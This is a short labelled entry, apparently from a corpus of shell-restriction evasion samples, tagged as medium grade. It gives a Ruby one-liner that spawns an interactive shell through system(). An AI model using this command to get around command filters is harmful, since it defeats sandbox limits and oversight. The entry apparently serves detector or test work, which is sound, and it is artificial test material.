# evasion: ruby -e system
# grade: medium; does: shell
ruby -e 'system("sh -i")'
